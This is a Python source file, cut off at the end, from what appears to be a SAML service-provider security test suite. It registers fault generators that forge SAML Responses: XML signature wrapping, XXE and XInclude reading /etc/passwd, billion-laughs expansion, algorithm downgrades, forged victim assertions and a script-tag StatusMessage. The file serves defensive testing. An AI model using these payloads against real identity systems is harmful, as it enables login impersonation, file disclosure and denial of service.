@register_factory("nameid-value", "NameID set to the given value (victim, confusable, too long, ...)",
                  ("NID-04", "NID-07", "NID-09", "TEN-06"), value="victim@example.com")
def _nameid_value(value: str) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, user=replace(s.user, name_id=value)))


# ----------------------------------------------------------------------------- ATTR
def _attr_spec(
    fn: Callable[[dict[str, list[str]], str], None],
    name: str | None,
    where: Callable[[list[str]], bool] | None = None,
) -> Callable[[ResponseSpec, FaultContext], ResponseSpec]:
    def spec(s: ResponseSpec, ctx: FaultContext) -> ResponseSpec:
        attrs = {k: list(v) for k, v in s.user.attributes.items()}
        n = _pick_attr(s, name, where=where)
        ctx.notes["attribute"] = n
        fn(attrs, n)
        return _with_attrs(s, attrs)

    return spec


def _rename(attrs: dict[str, list[str]], old: str, new: str) -> None:
    items = list(attrs.items())
    attrs.clear()
    for k, v in items:
        attrs[new if k == old else k] = v


def _misspell(n: str) -> str:
    if len(n) < 3:
        return n + n[-1]
    i = len(n) // 2
    swapped = n[: i - 1] + n[i] + n[i - 1] + n[i + 1:]
    return swapped if swapped != n else n + n[-1]


def _case_change(n: str) -> str:
    return n.lower() if n != n.lower() else n[:1].upper() + n[1:]


@register_factory("attr-missing", "One attribute left out (default: the email attribute)", ("ATTR-01",), name=None)
def _attr_missing(name: str | None) -> Fault:
    return Fault("", "", spec=_attr_spec(lambda a, n: a.pop(n), name))


@register_factory("attr-misspelt", "One attribute name misspelt (two letters swapped)", ("ATTR-01", "ATTR-05"), name=None)
def _attr_misspelt(name: str | None) -> Fault:
    return Fault("", "", spec=_attr_spec(lambda a, n: _rename(a, n, _misspell(n)), name))


@register_factory("attr-case", "One attribute name with its case changed (Email -> email, role -> Role)", ("ATTR-05",), name=None)
def _attr_case(name: str | None) -> Fault:
    return Fault("", "", spec=_attr_spec(lambda a, n: _rename(a, n, _case_change(n)), name))


@register_factory("attr-duplicate", "A second Attribute element with the same name and another value", ("ATTR-03",),
                  name=None, value="admin")
def _attr_duplicate(name: str | None, value: str) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        n = _pick_attr(ctx.spec, name)
        attr = _attr_el(root, n)
        dup = copy.deepcopy(attr)
        for av in dup.findall(q(SAML, "AttributeValue"))[1:]:
            dup.remove(av)
        dup.find(q(SAML, "AttributeValue")).text = str(value)
        attr.addnext(dup)

    return Fault("", "", tree=tree)


def _only_value(attr: etree._Element) -> etree._Element:
    """Keep only the first AttributeValue of `attr` and return it."""
    avs = attr.findall(q(SAML, "AttributeValue"))
    for av in avs[1:]:
        attr.remove(av)
    return avs[0]


@register_factory("attr-empty", "One attribute sent with a single empty AttributeValue", ("ATTR-11",), name=None)
def _attr_empty(name: str | None) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        _only_value(_attr_el(root, _pick_attr(ctx.spec, name))).text = None

    return Fault("", "", tree=tree)


@register_factory("attr-comma-joined", "A multi-valued attribute sent as one comma-joined AttributeValue",
                  ("ATTR-06", "POS-09"), name=None, sep=",")  # default: the first multi-valued attribute
def _attr_joined(name: str | None, sep: str) -> Fault:
    return Fault("", "", spec=_attr_spec(lambda a, n: a.__setitem__(n, [sep.join(a[n])]), name, lambda v: len(v) > 1))


@register_factory("attr-multi-valued", "A comma-joined attribute value split into several AttributeValues",
                  ("ATTR-08", "POS-09"), name=None, sep=",")
def _attr_split(name: str | None, sep: str) -> Fault:
    return Fault("", "", spec=_attr_spec(
        lambda a, n: a.__setitem__(n, [p.strip() for v in a[n] for p in v.split(sep)]), name,
        lambda v: any(sep in x for x in v)))


@register_factory("attr-value", "One attribute's values replaced by the given value", ("ATTR-09", "TEN-03", "ATTR-13"),
                  name=None, value="admin")
def _attr_value(name: str | None, value: str) -> Fault:
    return Fault("", "", spec=_attr_spec(lambda a, n: a.__setitem__(n, [str(value)]), name))


_PRESETS = {
    "attr-commas": ("Doe, John", "A value containing a comma and a space", ("ATTR-07",)),
    "attr-spaces": ("  padded  value  ", "A value with leading, trailing and doubled spaces", ("ATTR-09",)),
    "attr-unicode": ("Zoë Ångström 测试 аdmin \u200b", "A value with accents, CJK, a Cyrillic confusable and a zero-width space",
                     ("ATTR-09", "NID-09")),
}
for _fid, (_value, _desc, _refs) in _PRESETS.items():
    def _preset(name: str | None, _v: str = _value) -> Fault:
        return Fault("", "", spec=_attr_spec(lambda a, n: a.__setitem__(n, [_v]), name))

    register_factory(_fid, _desc, _refs, name=None)(_preset)


@register_factory("attr-long", "One attribute value of extreme length (default 10 000 characters)", ("ATTR-12",),
                  name=None, length=10000)
def _attr_long(name: str | None, length: int) -> Fault:
    return Fault("", "", spec=_attr_spec(lambda a, n: a.__setitem__(n, ["x" * int(length)]), name))


# ----------------------------------------------------------------------------- XML: DTDs and entities
def _doctype(xml: bytes, doctype: bytes) -> bytes:
    if xml.startswith(b"<?xml"):
        end = xml.index(b"?>") + 2
        return xml[:end] + b"\n" + doctype + b"\n" + xml[end:]
    return doctype + b"\n" + xml


def _dtd_harmless(xml: bytes, ctx: FaultContext) -> bytes:
    return _doctype(xml, b"<!DOCTYPE samlp:Response [<!ELEMENT samlp:Response ANY>]>")


register(Fault("dtd-harmless", "A harmless internal DTD before the (validly signed) Response", ("XML-01", "SAML2Int SDP-G03"),
               bytes_=_dtd_harmless))


def _dtd_entity(xml: bytes, ctx: FaultContext) -> bytes:
    import html

    name_id = ctx.spec.user.name_id
    esc = html.escape(name_id, quote=False).encode()
    needle = b">" + esc + b"</saml:NameID>"
    if needle not in xml:
        raise ValueError("NameID text not found for the entity reference")
    value = html.escape(name_id, quote=True).encode()
    xml = xml.replace(needle, b">&nameid;</saml:NameID>", 1)
    return _doctype(xml, b'<!DOCTYPE samlp:Response [<!ENTITY nameid "' + value + b'">]>')


register(Fault("dtd-internal-entity",
               "Internal DTD entity whose value is the NameID, referenced in NameID (signature valid once expanded)",
               ("XML-01", "XML-05"), bytes_=_dtd_entity))


@register_factory("xxe-external",
                  "External parameter entity pointing at a loopback URL the IdP watches (a fetch by the SP is recorded)",
                  ("XML-02", "XML-04", "CVE-2016-10149"), general=False)
def _xxe(general: bool) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        token = ctx.notes.setdefault("oob_token", secrets.token_hex(8))
        url = ctx.idp.oob_url(token, "xxe")
        ctx.notes["oob_url"] = url
        if general:
            xml = xml.replace(b"</saml:NameID>", b"&xxe;</saml:NameID>", 1)
            return _doctype(xml, f'<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "{url}">]>'.encode())
        return _doctype(xml, f'<!DOCTYPE samlp:Response [<!ENTITY % xxe SYSTEM "{url}"> %xxe;]>'.encode())

    return Fault("", "", bytes_=b)


# ----------------------------------------------------------------------------- ENC
@register_factory("encrypted-assertion", "Assertion encrypted to the SP's encryption cert (EncryptedAssertion)",
                  ("POS-05", "ENC-06", "SAML Core 6.2", "SAML2Int SDP-ALG01"), block="aes256-gcm", key_transport="rsa-oaep")
def _encrypted(block: str, key_transport: str) -> Fault:
    def signing(s: SigningOptions, ctx: FaultContext) -> None:
        s.encrypt = True
        s.encryption = {**s.encryption, "block": block, "key_transport": key_transport}

    return Fault("", "", signing=signing)


@register_factory("encrypted-unsigned", "EncryptedAssertion whose inner Assertion is unsigned, Response unsigned",
                  ("ENC-02",), block="aes256-gcm")
def _enc_unsigned(block: str) -> Fault:
    def signing(s: SigningOptions, ctx: FaultContext) -> None:
        s.encrypt, s.sign_assertion, s.sign_response = True, False, False
        s.encryption = {**s.encryption, "block": block}

    return Fault("", "", signing=signing)


# ============================================================================= more catalogue faults
# ----------------------------------------------------------------------------- SIG: shape of the signature
def _asig(root: etree._Element) -> etree._Element:
    s = _sig(_assertion(root))
    if s is None:
        raise ValueError("the Assertion is not signed")
    return s


@register_factory("sig-reference-uri",
                  "The Assertion signature's Reference URI rewritten after signing (\"#\", \"#xpointer(/)\", an absolute URL, \"\"; "
                  "\"oob\" = a loopback URL the IdP watches)",
                  ("SIG-13", "SIG-14", "XML-11", "SAML Core 5.4.2"), uri="#xpointer(/)")
def _ref_uri(uri: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        u = uri
        if u == "oob":
            u = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "reference")
            ctx.notes["oob_url"] = u
        _iter_tag(_asig(root), q(DS, "Reference"))[0].set("URI", u)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


def _detached(root: etree._Element, ctx: FaultContext) -> None:
    a = _assertion(root)
    s = _asig(root)
    a.remove(s)
    a.addnext(s)


register(Fault("sig-detached", "The Assertion's (valid) signature moved out of it, next to it in the Response (detached)",
               ("SIG-15", "SAML Core 5.4.1"), signing=_assertion_signed(), signed=_detached))


def _misplaced(root: etree._Element, ctx: FaultContext) -> None:
    a = _assertion(root)
    s = _asig(root)
    a.remove(s)
    a.find(q(SAML, "Subject")).addnext(s)


register(Fault("sig-wrong-position", "The Assertion's (still valid) signature moved after Subject (schema wants it after Issuer)",
               ("SIG-16", "CVE-2021-21238"), signing=_assertion_signed(), signed=_misplaced))


def _dup_sig(root: etree._Element, ctx: FaultContext) -> None:
    s = _asig(root)
    bad = copy.deepcopy(s)
    _flip_sigvalue(bad, ctx)
    s.addprevious(bad)


register(Fault("sig-duplicate", "Two ds:Signature elements in the Assertion: a broken copy first, the valid one second",
               ("SIG-17", "CVE-2021-21238"), signing=_assertion_signed(), signed=_dup_sig))


@register_factory("signature-method", "SignatureMethod Algorithm relabelled after signing (MD5, DSA-SHA1, HMAC, unknown)",
                  ("ALG-01", "ALG-04", "ALG-05", "ALG-06"), uri="http://www.w3.org/2001/04/xmldsig-more#rsa-md5")
def _sigmethod(uri: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        _iter_tag(_asig(root), q(DS, "SignatureMethod"))[0].set("Algorithm", uri)
        if uri.endswith("hmac-sha1"):
            sm = _iter_tag(_asig(root), q(DS, "SignatureMethod"))[0]
            etree.SubElement(sm, q(DS, "HMACOutputLength")).text = "8"

    return Fault("", "", signing=_assertion_signed(), signed=signed)


@register_factory("canonicalization", "CanonicalizationMethod of the Assertion signature relabelled (inclusive c14n 1.1, ...)",
                  ("ALG-07",), uri="http://www.w3.org/2006/12/xml-c14n11")
def _c14n(uri: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        _iter_tag(_asig(root), q(DS, "CanonicalizationMethod"))[0].set("Algorithm", uri)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


@register_factory("transforms", "Reference Transforms changed: none, three, or without enveloped-signature",
                  ("ALG-08", "CVE-2020-5390"), mode="none")
def _transforms(mode: str) -> Fault:
    if mode not in ("none", "three", "no-enveloped"):
        raise ValueError("transforms mode must be none, three or no-enveloped")

    def signed(root: etree._Element, ctx: FaultContext) -> None:
        ts = _iter_tag(_asig(root), q(DS, "Transforms"))[0]
        if mode == "none":
            ts.getparent().remove(ts)
        elif mode == "three":
            etree.SubElement(ts, q(DS, "Transform"), Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#")
        else:
            ts.remove(ts[0])

    return Fault("", "", signing=_assertion_signed(), signed=signed)


def _two_certs(s: SigningOptions, ctx: FaultContext) -> None:
    s.key = ctx.idp.attacker_key
    s.key_info = "x509"
    ctx.notes["two_certs"] = True


def _add_genuine_first(root: etree._Element, ctx: FaultContext) -> None:
    for sig in _iter_tag(root, q(DS, "Signature")):
        x509d = _iter_tag(sig, q(DS, "X509Data"))[0]
        genuine = etree.Element(q(DS, "X509Certificate"))
        genuine.text = ctx.idp.key.cert_b64
        x509d.insert(0, genuine)


register(Fault("key-two-certs", "KeyInfo holds the genuine IdP cert first and the attacker's second; signed by the attacker",
               ("KEY-05",), signing=_two_certs, signed=_add_genuine_first))


def _retrieval(root: etree._Element, ctx: FaultContext) -> None:
    url = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "retrieval")
    ctx.notes["oob_url"] = url
    for ki in _iter_tag(root, q(DS, "KeyInfo")):
        for c in list(ki):
            ki.remove(c)
        etree.SubElement(ki, q(DS, "RetrievalMethod"), URI=url,
                         Type="http://www.w3.org/2000/09/xmldsig#X509Data")


register(Fault("retrieval-method", "KeyInfo replaced by a RetrievalMethod pointing at a loopback URL the IdP watches",
               ("XML-12",), signed=_retrieval))


# ----------------------------------------------------------------------------- XSW: more wrappings
def _xsw_response_in_response(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> etree._Element:
        outer = copy.deepcopy(root)
        for s in _iter_tag(outer, q(DS, "Signature")):
            s.getparent().remove(s)
        outer.set("ID", new_id())
        a = outer.find(q(SAML, "Assertion"))
        if a is not None:
            a.set("ID", new_id())
            _victimize(a, victim)
        outer.append(root)
        return outer

    return Fault("", "", signed=signed)


register_factory("xsw-response-in-response",
                 "An unsigned attacker Response (new IDs) wrapping the valid signed Response as its last child",
                 ("XSW-10", "pysaml2 signed-xsw-response-in-response"), victim=None)(_xsw_response_in_response)


def _xsw_wrapper(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        evil = _drop_sig(copy.deepcopy(a))
        _victimize(evil, victim)
        wrapper = etree.Element("{urn:samlconf:decoy}Wrapper", nsmap={"decoy": "urn:samlconf:decoy"})
        a.addprevious(evil)
        root.remove(a)
        wrapper.append(a)
        evil.addnext(wrapper)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


register_factory("xsw-wrapper",
                 "The signed Assertion moved into an unknown wrapper element; an unsigned copy (same ID) is the direct child",
                 ("XSW-12",), victim=None)(_xsw_wrapper)


@register_factory("advice-assertion", "The signed Assertion carries, in saml:Advice, an unsigned Assertion for a victim",
                  ("XSW-17",), victim="victim@example.com")
def _advice(victim: str) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        inner = copy.deepcopy(a)
        inner.set("ID", new_id())
        _victimize(inner, victim)
        advice = etree.Element(q(SAML, "Advice"))
        advice.append(inner)
        a.find(q(SAML, "Conditions")).addnext(advice)

    return Fault("", "", tree=tree)


# ----------------------------------------------------------------------------- CMT-06
@register_factory("comment-in-value", "Audience or Issuer text followed by a comment and a suffix (signed: the full text is value+suffix)",
                  ("CMT-06",), where="audience", suffix=".evil.example")
def _comment_in(where: str, suffix: str) -> Fault:
    if where not in ("audience", "issuer"):
        raise ValueError("where must be audience or issuer")

    def tree(root: etree._Element, ctx: FaultContext) -> None:
        els = [_conditions(root).find(f"{q(SAML, 'AudienceRestriction')}/{q(SAML, 'Audience')}")] if where == "audience" \
            else [root.find(q(SAML, "Issuer")), _assertion(root).find(q(SAML, "Issuer"))]
        for el in els:
            c = etree.Comment("")
            c.tail = suffix
            el.append(c)

    return Fault("", "", tree=tree)


# ----------------------------------------------------------------------------- XML: more entity / parser tricks
@register_factory("dtd-billion-laughs", "Nested internal entities (10 per level) referenced in an AttributeValue",
                  ("XML-05", "CVE-2016-10149"), levels=9)
def _laughs(levels: int) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        ents = ['<!ENTITY lol0 "lol">'] + [
            f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, int(levels) + 1)
        ]
        xml = xml.replace(b"</saml:AttributeValue>", f"&lol{int(levels)};</saml:AttributeValue>".encode(), 1)
        return _doctype(xml, ("<!DOCTYPE samlp:Response [" + "".join(ents) + "]>").encode())

    return Fault("", "", bytes_=b)


@register_factory("xxe-file", "External general entity SYSTEM file:// referenced in NameID (file disclosure)",
                  ("XML-03",), path="/etc/hostname")
def _xxe_file(path: str) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        xml = xml.replace(b"</saml:NameID>", b"&xxe;</saml:NameID>", 1)
        return _doctype(xml, f'<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file://{path}">]>'.encode())

    return Fault("", "", bytes_=b)


@register_factory("xinclude", "An xi:include of a local file inside the first AttributeValue (after signing)",
                  ("XML-07",), href="file:///etc/passwd")
def _xinclude(href: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        av = next(_assertion(root).iter(q(SAML, "AttributeValue")))
        etree.SubElement(av, "{http://www.w3.org/2001/XInclude}include", href=href, parse="text",
                         nsmap={"xi": "http://www.w3.org/2001/XInclude"})

    return Fault("", "", signed=signed)


@register_factory("oversize", "The document padded with a comment after the root to N bytes (signatures unaffected)",
                  ("XML-13", "CVE-2025-54572"), size=20_000_000)
def _oversize(size: int) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        pad = max(0, int(size) - len(xml) - 8)
        return xml + b"\n<!--" + b"x" * pad + b"-->"

    return Fault("", "", bytes_=b)


@register_factory("deep-nesting", "N nested elements inserted at the end of the Response (parser depth limits)",
                  ("XML-14",), depth=100_000)
def _deep(depth: int) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        n = int(depth)
        return xml.replace(b"</samlp:Response>", b"<x>" * n + b"</x>" * n + b"</samlp:Response>")

    return Fault("", "", bytes_=b)


def _utf16(xml: bytes, ctx: FaultContext) -> bytes:
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
    return ("<?xml version='1.0' encoding='UTF-16'?>" + body.decode("utf-8")).encode("utf-16")


register(Fault("encoding-utf16", "The whole document in UTF-16 with a BOM (same content; signatures still valid)",
               ("XML-15",), bytes_=_utf16, stage_override="pre-sign"))


# ----------------------------------------------------------------------------- STA / MAS
def _no_status(root: etree._Element, ctx: FaultContext) -> None:
    root.remove(root.find(q(SAMLP, "Status")))


register(Fault("status-missing", "Response without samlp:Status", ("STA-03",), tree=_no_status))


@register_factory("status-message", "A StatusMessage with the given text (markup for reflection checks) on a Success response",
                  ("STA-05",), message="<script>alert(1)</script>")
def _status_message(message: str) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, status_message=message))


@register_factory("status-top-level", "An illegal top-level StatusCode (a second-level code or an unknown URI) with the assertion",
                  ("STA-04",), code=STATUS_AUTHN_FAILED)
def _status_top(code: str) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, status_code=code, include_assertion=True))


@register_factory("assertion-and-encrypted", "A plaintext unsigned (forged) Assertion next to the genuine EncryptedAssertion",
                  ("MAS-03",), victim="victim@example.com")
def _plain_and_enc(victim: str) -> Fault:
    def signing(s: SigningOptions, ctx: FaultContext) -> None:
        s.encrypt = True
        s.sign_response = False

    def tree(root: etree._Element, ctx: FaultContext) -> None:
        forged = copy.deepcopy(_assertion(root))
        forged.set("ID", new_id())
        _victimize(forged, victim)
        ctx.notes["forged_assertion"] = forged

    def signed(root: etree._Element, ctx: FaultContext) -> None:
        root.append(ctx.notes.pop("forged_assertion"))

    return Fault("", "", signing=signing, tree=tree, signed=signed)


def _two_authn(root: etree._Element, ctx: FaultContext) -> None:
    st = _assertion(root).find(q(SAML, "AuthnStatement"))
    st2 = copy.deepcopy(st)
    st2.set("SessionIndex", st.get("SessionIndex") + "_2")
    st2.find(f"{q(SAML, 'AuthnContext')}/{q(SAML, 'AuthnContextClassRef')}").text = \
        "urn:oasis:names:tc:SAML:2.0:ac:classes:unspecified"
    st.addnext(st2)


register(Fault("two-authn-statements", "Two AuthnStatements with different SessionIndex and AuthnContext", ("MAS-05",),
               tree=_two_authn))


@register_factory("authn-context", "AuthnContextClassRef set to the given class (weaker than requested, ...)",
                  ("MAS-07",), cls="urn:oasis:names:tc:SAML:2.0:ac:classes:Password")
def _authn_ctx(cls: str) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, authn_context=cls))


# ----------------------------------------------------------------------------- ENC
@register_factory("encrypted-wrong-key", "EncryptedAssertion encrypted to an attacker certificate (the SP cannot decrypt)",
                  ("ENC-04",), block="aes256-gcm")
def _enc_wrong(block: str) -> Fault:
    def signing(s: SigningOptions, ctx: FaultContext) -> None:
        s.encrypt = True
        s.encryption = {**s.encryption, "block": block, "cert": ctx.idp.attacker_key}

    return Fault("", "", signing=signing)


# ----------------------------------------------------------------------------- ATTR
@register_factory("attr-friendly-name", "An extra Attribute with an OID Name whose FriendlyName is the given name, value 'admin'",
                  ("ATTR-04",), name="role", value="admin")
def _friendly(name: str, value: str) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        st = _assertion(root).find(q(SAML, "AttributeStatement"))
        at = etree.SubElement(st, q(SAML, "Attribute"), Name="urn:oid:1.3.6.1.4.1.5923.1.1.1.7",
                              NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri", FriendlyName=name)
        etree.SubElement(at, q(SAML, "AttributeValue")).text = value

    return Fault("", "", tree=tree)


@register_factory("attr-complex-value", "One attribute's value is an element (<x>admin</x>) instead of text",
                  ("ATTR-10",), name=None, value="admin")
def _complex(name: str | None, value: str) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        av = _attr_el(root, _pick_attr(ctx.spec, name)).find(q(SAML, "AttributeValue"))
        av.text = None
        av.attrib.pop("{http://www.w3.org/2001/XMLSchema-instance}type", None)
        etree.SubElement(av, "{urn:samlconf:complex}x", nsmap={"c": "urn:samlconf:complex"}).text = value

    return Fault("", "", tree=tree)


@register_factory("attr-nil", "One attribute's single value is xsi:nil=\"true\"", ("ATTR-11",), name=None)
def _nil(name: str | None) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        av = _only_value(_attr_el(root, _pick_attr(ctx.spec, name)))
        av.text = None
        av.attrib.pop("{http://www.w3.org/2001/XMLSchema-instance}type", None)
        av.set("{http://www.w3.org/2001/XMLSchema-instance}nil", "true")

    return Fault("", "", tree=tree)


@register_factory("attr-many-values", "One attribute with N AttributeValues", ("ATTR-12",), name=None, count=10000)
def _many(name: str | None, count: int) -> Fault:
    return Fault("", "", spec=_attr_spec(lambda a, n: a.__setitem__(n, [f"v{i}" for i in range(int(count))]), name))


# ----------------------------------------------------------------------------- RPL / ISS / TIME / DST
def _one_time_use(root: etree._Element, ctx: FaultContext) -> None:
    etree.SubElement(_conditions(root), q(SAML, "OneTimeUse"))


register(Fault("one-time-use", "Conditions carry <OneTimeUse/> (replay it to check the SP's cache)", ("RPL-06", "SAML Core 2.5.1.5"),
               tree=_one_time_use))


@register_factory("issuer-format", "Issuer elements carry a Format other than entity", ("ISS-05",),
                  format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress")
def _iss_format(format: str) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        for el in (root.find(q(SAML, "Issuer")), _assertion(root).find(q(SAML, "Issuer"))):
            el.set("Format", format)

    return Fault("", "", tree=tree)


@register_factory("issuer-duplicate", "A second Issuer element in the Response (another IdP)", ("ISS-06",),
                  issuer="https://other-idp.example.com/idp")
def _iss_dup(issuer: str) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        el = etree.Element(q(SAML, "Issuer"))
        el.text = issuer
        root.find(q(SAML, "Issuer")).addnext(el)

    return Fault("", "", tree=tree)


@register_factory("timestamp", "Conditions NotOnOrAfter written as the given raw string (offsets, no Z, year 10000, leap second)",
                  ("TIME-09",), value="2030-01-01T00:00:00+14:00")
def _timestamp(value: str) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        _conditions(root).set("NotOnOrAfter", value)

    return Fault("", "", tree=tree)


def _unknown_condition(root: etree._Element, ctx: FaultContext) -> None:
    c = etree.SubElement(_conditions(root), q(SAML, "Condition"), nsmap={"ext": "urn:samlconf:ext"})
    c.set("{http://www.w3.org/2001/XMLSchema-instance}type", "ext:Foo")


register(Fault("condition-unknown", "An unknown <Condition xsi:type=\"ext:Foo\"> inside Conditions", ("TIME-11", "SAML Core 2.5.1"),
               tree=_unknown_condition))


@register_factory("session-lifetime", "AuthnStatement SessionNotOnOrAfter N seconds after issue", ("TIME-12", "SAML Prof 4.1.4.3"),
                  seconds=120)
def _session_life(seconds: int) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, session_lifetime=int(seconds)))


@register_factory("authn-instant-stale", "AuthnInstant N seconds in the past (stale authentication, e.g. despite ForceAuthn)",
                  ("TIME-13", "SAML2Int SDP-IDP07"), seconds=8 * 3600)
def _stale(seconds: int) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, authn_instant=s.now - timedelta(seconds=int(seconds))))


@register_factory("scd-mix-and-match",
                  "Two bearer confirmations: right Recipient but expired, and in time but for another Recipient",
                  ("DST-08", "SAML Prof 4.1.4.3"), url="https://other-sp.example.com/saml/acs")
def _mix(url: str) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        scd = _scd(root)
        sc = scd.getparent()
        sc2 = copy.deepcopy(sc)
        scd.set("NotOnOrAfter", xml_time(ctx.spec.now - timedelta(seconds=600)))
        next(sc2.iter(q(SAML, "SubjectConfirmationData"))).set("Recipient", url)
        sc.addnext(sc2)

    return Fault("", "", tree=tree)


# ============================================================================= positives and parser differentials
_TIME_ATTRS = ("IssueInstant", "NotBefore", "NotOnOrAfter", "AuthnInstant", "SessionNotOnOrAfter")


@register_factory("benign-variations",
                  "Same content, unusual form: saml2/samlp2 prefixes, pretty-printed, fractional seconds (signed after; must be ACCEPTED)",
                  ("POS-06",), prefixes=True, pretty=True, fractional=True)
def _benign(prefixes: bool, pretty: bool, fractional: bool) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> etree._Element:
        if fractional:
            for el in root.iter():
                if not isinstance(el.tag, str):
                    continue
                for a in _TIME_ATTRS:
                    v = el.get(a)
                    if v and v.endswith("Z") and "." not in v:
                        el.set(a, v[:-1] + ".123Z")
        if prefixes:
            xml = etree.tostring(root).decode()
            xml = xml.replace("xmlns:saml=", "xmlns:saml2=").replace("<saml:", "<saml2:").replace("</saml:", "</saml2:")
            xml = xml.replace("xmlns:samlp=", "xmlns:samlp2=").replace("<samlp:", "<samlp2:").replace("</samlp:", "</samlp2:")
            root = etree.fromstring(xml)
        if pretty:
            etree.indent(root, space="    ")
        return root

    return Fault("", "", tree=tree)


def _rollover(s: SigningOptions, ctx: FaultContext) -> None:
    extra = getattr(ctx.idp, "extra_signing_keys", [])
    if not extra:
        raise ValueError("key-rollover needs MockIdP(extra_signing_keys=[...]) (a second published key)")
    s.key = extra[0]


register(Fault("key-rollover", "Signed with the second signing key published in the IdP metadata (must be ACCEPTED)",
               ("POS-08", "SAML2Int SDP-SP37"), signing=_rollover))


def _digest_comment(root: etree._Element, ctx: FaultContext) -> None:
    for dv in _iter_tag(_asig(root), q(DS, "DigestValue")):
        c = etree.Comment("x")
        c.tail = dv.text
        dv.text = None
        dv.append(c)


register(Fault("digest-comment", "A comment before the value inside the Assertion signature's DigestValue",
               ("PDF-07",), signing=_assertion_signed(), signed=_digest_comment))


def _trailing(xml: bytes, ctx: FaultContext) -> bytes:
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
    return xml + b"\n" + body.strip()


register(Fault("trailing-document", "The signed Response followed by a second top-level Response (two roots)",
               ("PDF-09",), bytes_=_trailing))


def _decoy_sig(root: etree._Element, ctx: FaultContext) -> None:
    decoy = copy.deepcopy(_asig(root))
    _flip_sigvalue(decoy, ctx)
    for dv in _iter_tag(decoy, q(DS, "DigestValue")):
        dv.text = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
    ext = etree.Element(q(SAMLP, "Extensions"))
    ext.append(decoy)
    root.find(q(SAML, "Issuer")).addnext(ext)


register(Fault("decoy-signature", "A decoy ds:Signature (bogus digest) in samlp:Extensions, earlier in the document than the real one",
               ("PDF-11",), signing=_assertion_signed(), signed=_decoy_sig))


@register_factory("namespace-bad-char", "A namespace declaration with an invalid character (U+0080) on the signed Assertion",
                  ("PDF-06", "CVE-2025-25292"), uri="http://example.com\u0080")
def _bad_ns(uri: str) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        return xml.replace(b"<saml:Assertion ", b'<saml:Assertion xmlns:x="' + uri.encode() + b'" ', 1)

    return Fault("", "", signing=_assertion_signed(), bytes_=b)


def _void_c14n(xml: bytes, ctx: FaultContext) -> bytes:
    xml = xml.replace(b"<samlp:Response ", b'<samlp:Response xmlns:ns="1" ', 1)
    import re

    return re.sub(rb"<ds:DigestValue>[^<]*</ds:DigestValue>",
                  b"<ds:DigestValue>47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=</ds:DigestValue>", xml)


register(Fault("void-canonicalization", "Relative namespace URI xmlns:ns=\"1\" on the Response and every DigestValue = SHA-256 of \"\"",
               ("PDF-05", "Golden SAML Response"), signing=_assertion_signed(), bytes_=_void_c14n))


def _two_signedinfo(root: etree._Element, ctx: FaultContext) -> None:
    s = _asig(root)
    si = _iter_tag(s, q(DS, "SignedInfo"))[0]
    forged = copy.deepcopy(si)
    for dv in _iter_tag(forged, q(DS, "DigestValue")):
        dv.text = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
    si.addnext(forged)


register(Fault("two-signedinfo", "A second SignedInfo (other DigestValue) after the real one in the Assertion signature",
               ("PDF-08",), signing=_assertion_signed(), signed=_two_signedinfo))


def _encrypt_nameid(root: etree._Element, ctx: FaultContext) -> None:
    from .encryption import encrypt_element

    sp = ctx.sp
    cert = (ctx.signing.encryption or {}).get("cert") or (sp.encryption_certs[0] if sp and sp.encryption_certs else None)
    if cert is None:
        raise ValueError("nameid-encrypted needs the SP's encryption certificate")
    nid = _nameid(root)
    wrapper = etree.Element(q(SAML, "EncryptedID"))
    nid.addprevious(wrapper)
    wrapper.append(nid)
